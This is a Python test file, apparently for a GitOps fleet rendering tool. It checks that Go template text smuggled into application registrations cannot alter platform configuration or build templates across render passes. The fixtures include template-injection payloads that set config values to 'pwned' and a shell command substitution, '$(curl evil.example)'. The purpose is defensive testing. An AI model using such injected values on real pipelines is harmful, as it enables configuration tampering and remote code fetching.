"""A text of an application is a template itself."""

from __future__ import annotations

import pytest

from tests.breaks import breaks, turned
from tests.hostile.fleet_under_attack import CALM, EVIL, FleetUnderAttack, blamed

SET = """'{{ $_ := set .ConfigData "REGION" "pwned" }}dev'"""

TEMPLATES = {
    "it sets the platform's configuration": SET,
    "it fails": """'{{ fail "x" }}'""",
    "it does not parse": """'{{'""",
    "it reads the configuration": "'{{ .ConfigData.REGION }}'",
    "a comment": "'{{/* x */}}'",
    "a substitution by Flux": "'${SECRET}'",
    "a shell's command": "'$(curl evil.example)'",
}


@breaks(
    "a text of an application may be a template",
    turned("kalypso_actions.fleet.workloads._text_fault", "_TEMPLATE.search(text.text)", "None"),
)
@pytest.mark.parametrize("key", ["branch", "description", "'a{{b'"])
@pytest.mark.parametrize("text", TEMPLATES.values(), ids=TEMPLATES.keys())
def test_template_text_makes_the_registration_invalid(
    fleet: FleetUnderAttack, key: str, text: str
) -> None:
    fleet.attack(**{key: text})
    document, files = fleet.rendered()
    for warning in blamed(document):
        assert warning.code == "registration-template"
        assert warning.where
        assert warning.where.line == {"branch": 10, "description": 12}.get(key, 13)
    assert CALM in files
    assert EVIL not in files


def test_labels_hold_no_template(fleet: FleetUnderAttack) -> None:
    fleet.attack(more="      labels: {tier: '{{ fail }}'}\n")
    assert blamed(fleet.render())[-1].code == "label-invalid"


JOINED = {
    "two texts make one": (
        "a: {{ .Manifests.one }}{{ .Manifests.two }}",
        {"one": "'{'", "two": """'{ fail "x" }}'"""},
    ),
    "a brace of the template makes one with a text": (
        'a: "{{ "{" }}{{ .Manifests.one }}"',
        {"one": "'{ .ConfigData.REGION }}'"},
    ),
    "the template decodes it": (
        '# {{ .Manifests.two }}\na: {{ .Manifests.one | replace "<" "{" }}',
        {"one": "'<< .ConfigData.REGION }}'", "two": "x"},
    ),
}


@pytest.mark.parametrize(("line", "manifests"), JOINED.values(), ids=JOINED.keys())
def test_no_template_is_made_of_texts(
    fleet: FleetUnderAttack, line: str, manifests: dict[str, str]
) -> None:
    fleet.commit_main(f"kind: ConfigMap\n{line}\n")
    fleet.deliver(
        "calm",
        (fleet.folder / "calm/workload.yaml").read_text() + "        one: x\n        two: x\n",
    )
    fleet.attack(**manifests)
    document, files = fleet.rendered()
    (warning,) = blamed(document)
    assert warning.code in {"registration-documents", "registration-render"}
    assert CALM in files
    assert EVIL not in files


def test_texts_of_the_control_plane_see_what_templates_set(fleet: FleetUnderAttack) -> None:
    """Such texts are rendered in later passes."""
    fleet.commit_main(
        '{{ $_ := set .ConfigData "COLOR" "red" }}{{ $_ := set .ConfigData "LATER" '
        '"{{ .ConfigData.COLOR }}" }}a: {{ .ConfigData.LATER }}\n'
    )
    _, files = fleet.rendered()
    assert files[CALM] == "a: red\n"


@breaks(
    "a text in the configuration may set the configuration",
    turned("kalypso_actions.rendering.manifests._render_output", "data.copy_of_go()", "data.go"),
)
@pytest.mark.parametrize(
    "text",
    [
        pytest.param('{{ $_ := set .ConfigData "REGION" "pwned" }}', id="set"),
        pytest.param('{{ $_ := unset .ConfigData "REGION" }}', id="unset"),
        pytest.param('{{ $_ := mergeOverwrite .ConfigData (dict "REGION" "x") }}', id="merge"),
        pytest.param('{{ $_ := set (index .ConfigData "DEEP") "a" "pwned" }}', id="nested"),
    ],
)
def test_texts_of_the_control_plane_set_nothing(fleet: FleetUnderAttack, text: str) -> None:
    text = text.replace('"', '\\"')
    fleet.commit_main(
        '{{ $_ := set .ConfigData "DEEP" (dict "a" "b") }}'
        f'{{{{ $_ := set .ConfigData "LATER" "{text}" }}}}'
        "a: {{ .ConfigData.LATER }}1\n",
        "region: {{ .ConfigData.REGION }}, deep: {{ .ConfigData.DEEP.a }}\n",
    )
    document, files = fleet.rendered()
    assert document.problems == ()
    assert files[CALM] == "a: 1\n"
    assert files["edge/calm-web/platform-config.yaml"] == "region: west, deep: b\n"


def test_a_later_pass_may_use_maps_of_its_own(fleet: FleetUnderAttack) -> None:
    own = '{{ $d := dict }}{{ $_ := set $d \\"a\\" \\"b\\" }}{{ $d.a }}'
    fleet.commit_main(
        f'{{{{ $_ := set .ConfigData "LATER" "{own}" }}}}a: {{{{ .ConfigData.LATER }}}}\n'
    )
    _, files = fleet.rendered()
    assert files[CALM] == "a: b\n"


def test_any_lets_template_text_through_with_a_warning(fleet: FleetUnderAttack) -> None:
    fleet.attack(branch=SET)
    document, files = fleet.rendered(registration_text="any")
    assert (document.problems, document.degraded) == ((), False)
    assert [item.code for item in document.warnings] == ["registration-template"]
    assert "branch: dev\n" in files[EVIL]
    assert "region: west" in files["edge/evil-web/platform-config.yaml"]


def test_any_stops_no_other_application(fleet: FleetUnderAttack) -> None:
    fleet.attack(description="""'{{ fail "x" }}'""")
    document, files = fleet.rendered(registration_text="any")
    (warning,) = [item for item in document.warnings if item.code == "registration-render"]
    assert document.problems == ()
    assert "a Template fails with the text of manifests.description" in warning.message
    assert CALM in files
